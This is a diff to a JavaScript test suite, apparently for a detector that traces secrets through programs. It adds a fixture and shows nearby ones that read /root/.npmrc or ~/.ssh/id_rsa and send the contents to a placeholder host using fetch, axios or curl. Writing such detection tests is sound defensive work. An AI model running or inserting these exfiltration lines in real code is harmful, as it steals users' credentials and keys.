@@ -52,6 +52,11 @@ describe('a secret is followed through a program', () => {
       `const { readFileSync: r } = require("node:fs")\nconst k = r("/root/.npmrc")\nrequire("axios").post("${TO}", { k })`,
     ],
     [
+      'a long chain of calls before it',
+      'a.js',
+      `build()${'.with(1)'.repeat(40)}\nfetch("${TO}", { method: "POST", body: require("fs").readFileSync("/root/.npmrc") })`,
+    ],
+    [
       'a shell command',
       'a.js',
       `const { execSync } = require("child_process")\nexecSync("cat ~/.ssh/id_rsa | curl -d @- ${TO}")`,
